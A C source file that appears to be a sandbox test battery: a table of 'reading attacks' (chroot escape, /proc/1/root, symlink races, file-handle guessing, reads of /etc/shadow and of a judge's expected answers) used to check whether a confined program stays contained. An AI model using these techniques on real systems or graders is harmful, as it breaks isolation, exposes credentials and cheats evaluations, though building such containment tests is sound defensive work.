/* Reading what is none of the program's business. */
#include "attack.h"
#include <dirent.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

/* Opens PATH for reading, expects the secret's token in it. */
static _Noreturn void read_secret_at(const char *path)
{
    succeed_if_token_in((int)MUST(open(path, O_RDONLY)), path);
}

static _Noreturn void list_folder(const char *path)
{
    DIR *folder = MUST_HAVE(opendir(path));
    int entries = 0;
    while (readdir(folder))
        entries++;
    succeeded("%d entries of %s", entries, path);
}

static void read_secret(void) { read_secret_at(target("secret")); }

/* A judge's expected answers lie beside the folder of the program that is judged. */
static void read_expected(void) { read_secret_at("../expected/1.out"); }

static void read_passwd(void)
{
    char text[64];
    int fd = (int)MUST(open("/etc/passwd", O_RDONLY));
    if (MUST(read(fd, text, sizeof text)) < 5 || memcmp(text, "root:", 5) != 0)
        no_effect("it is not this machine's list of users");
    succeeded("the list of users");
}

static void read_shadow(void)
{
    MUST(open("/etc/shadow", O_RDONLY));
    succeeded("the passwords");
}

static void list_home(void) { list_folder(target("home")); }
static void list_outside(void) { list_folder(target("outside")); }
static void list_sys(void) { list_folder("/sys/class/net"); }

static void list_root(void)
{
    DIR *folder = MUST_HAVE(opendir("/"));
    for (struct dirent *entry; (entry = readdir(folder));)
        if (strcmp(entry->d_name, "home") == 0 || strcmp(entry->d_name, "root") == 0)
            succeeded("the machine's root folder");
    no_effect("the root folder is not the machine's");
}

static void climb(void)
{
    char path[600];
    snprintf(path, sizeof path, "../../../../../../../../../..%s", target("secret"));
    read_secret_at(path);
}

static void through_proc_root(void)
{
    char path[600];
    snprintf(path, sizeof path, "/proc/self/root%s", target("secret"));
    read_secret_at(path);
}

/* Process 1 stands outside every folder: its root is the machine's. */
static void through_first_process(void)
{
    char path[600];
    snprintf(path, sizeof path, "/proc/1/root%s", target("secret"));
    read_secret_at(path);
}

static void through_parent_folder(void)
{
    char path[600];
    snprintf(path, sizeof path, "/proc/%d/cwd/../../../../../../../..%s", getppid(), target("secret"));
    read_secret_at(path);
}

static void through_symlink(void)
{
    const char *link = below("scratch", "link");
    MUST(symlink(target("secret"), link));
    read_secret_at(link);
}

static void through_folder_symlink(void)
{
    MUST(symlink("/", below("scratch", "machine")));
    char path[600];
    snprintf(path, sizeof path, "%s%s", below("scratch", "machine"), target("secret"));
    read_secret_at(path);
}

static void through_hard_link(void)
{
    const char *link_path = below("scratch", "hard");
    MUST(link(target("secret"), link_path));
    read_secret_at(link_path);
}

/* An O_PATH descriptor needs no permission to read; the way through /proc turns it into one that does. */
static void through_path_descriptor(void)
{
    char path[64];
    int fd = (int)MUST(open(target("secret"), O_PATH));
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    read_secret_at(path);
}

static void through_openat2(void)
{
    struct open_how how = { .flags = O_RDONLY, .resolve = RESOLVE_IN_ROOT };
    int root = (int)MUST(open("/", O_PATH | O_DIRECTORY));
    succeed_if_token_in((int)MUST(syscall(SYS_openat2, root, target("secret"), &how, sizeof how)), "openat2");
}

static char race_path[600];

static void *swap_forever(void *unused)
{
    char decoy[620], own[620];
    snprintf(decoy, sizeof decoy, "%s.link", race_path);
    snprintf(own, sizeof own, "%s.own", race_path);
    for (;;) {
        if (symlink(target("secret"), decoy) == 0)
            rename(decoy, race_path);
        int fd = open(own, O_CREAT | O_WRONLY, 0600);
        if (fd >= 0)
            close(fd);
        rename(own, race_path);
    }
    return unused;
}

/* Between a check of the path and its use the file becomes a link to the secret. */
static void race_of_symlinks(void)
{
    snprintf(race_path, sizeof race_path, "%s", below("scratch", "race"));
    pthread_t swapper;
    errno = pthread_create(&swapper, NULL, swap_forever, NULL);
    if (errno)
        stopped("pthread_create");
    char text[256];
    int refusal = ENOENT;
    /* On a busy machine even an open race takes its time. */
    time_t end = time(NULL) + (has_target("stand-in") ? 20 : 2);
    while (time(NULL) < end) {
        sched_yield();
        int fd = open(race_path, O_RDONLY);
        if (fd < 0) {
            refusal = errno == ENOENT ? refusal : errno;
            continue;
        }
        ssize_t length = read(fd, text, sizeof text);
        close(fd);
        if (length > 0)
            succeed_if_token_at(text, (size_t)length, "the race was won");
    }
    errno = refusal;
    stopped("winning the race");
}

/* A file handle names a file by its number: no path is walked, so no rule about paths is asked. */
static void by_file_handle(void)
{
    union {
        struct file_handle handle;
        char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    } name = { .handle = { .handle_bytes = MAX_HANDLE_SZ } };
    int mount;
    MUST(name_to_handle_at(AT_FDCWD, target("secret"), &name.handle, &mount, 0));
    int somewhere = (int)MUST(open(target("scratch"), O_RDONLY | O_DIRECTORY));
    succeed_if_token_in((int)MUST(open_by_handle_at(somewhere, &name.handle, O_RDONLY)), "a file by its number");
}

/* The root folder of most file systems has the number 2: no name is needed to get there. */
static void by_guessed_handle(void)
{
    struct {
        unsigned bytes;
        int type;
        unsigned words[2];
    } root = { .bytes = 8, .type = 1, .words = { 2, 0 } };
    int here = (int)MUST(open(".", O_RDONLY | O_DIRECTORY));
    MUST(syscall(SYS_open_by_handle_at, here, &root, O_RDONLY | O_DIRECTORY));
    succeeded("the root of the file system by its number");
}

static void by_mapping(void)
{
    int fd = (int)MUST(open(target("secret"), O_RDONLY));
    void *text = MUST_HAVE(mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0));
    succeed_if_token_at(text, strnlen(text, 4096), "the secret as memory");
}

/* The calls a shell makes: another program, the same cage. */
static void by_another_program(void)
{
    execl("/bin/cat", "cat", target("secret"), NULL);
    stopped("exec of cat");
}

static void watch_outside(void)
{
    int fd = (int)MUST(inotify_init1(IN_NONBLOCK));
    MUST(inotify_add_watch(fd, target("outside"), IN_ALL_EVENTS));
    succeeded("sees what happens in a folder of others");
}

static void escape_chroot(void)
{
    MUST(mkdir(below("scratch", "cell"), 0700));
    MUST(chroot(below("scratch", "cell")));
    for (int up = 0; up < 40; up++)
        if (chdir("..") != 0)
            break;
    MUST(chroot("."));
    read_secret_at(target("secret"));
}

static void read_disk(void)
{
    MUST(open(target("disk"), O_RDONLY));
    succeeded("the disk below all files");
}

static void read_kernel_log(void)
{
    MUST(open("/dev/kmsg", O_RDONLY | O_NONBLOCK));
    succeeded("the kernel's messages");
}

const struct attack reading_attacks[] = {
    { "read-secret", read_secret },
    { "read-expected", read_expected },
    { "read-passwd", read_passwd },
    { "read-shadow", read_shadow },
    { "list-home", list_home },
    { "list-outside", list_outside },
    { "list-root", list_root },
    { "list-sys", list_sys },
    { "climb", climb },
    { "through-proc-root", through_proc_root },
    { "through-first-process", through_first_process },
    { "through-parent-folder", through_parent_folder },
    { "through-symlink", through_symlink },
    { "through-folder-symlink", through_folder_symlink },
    { "through-hard-link", through_hard_link },
    { "through-path-descriptor", through_path_descriptor },
    { "through-openat2", through_openat2 },
    { "race-of-symlinks", race_of_symlinks },
    { "by-file-handle", by_file_handle },
    { "by-guessed-handle", by_guessed_handle },
    { "by-mapping", by_mapping },
    { "by-another-program", by_another_program },
    { "watch-outside", watch_outside },
    { "escape-chroot", escape_chroot },
    { "read-disk", read_disk },
    { "read-kernel-log", read_kernel_log },
    { 0 },
};
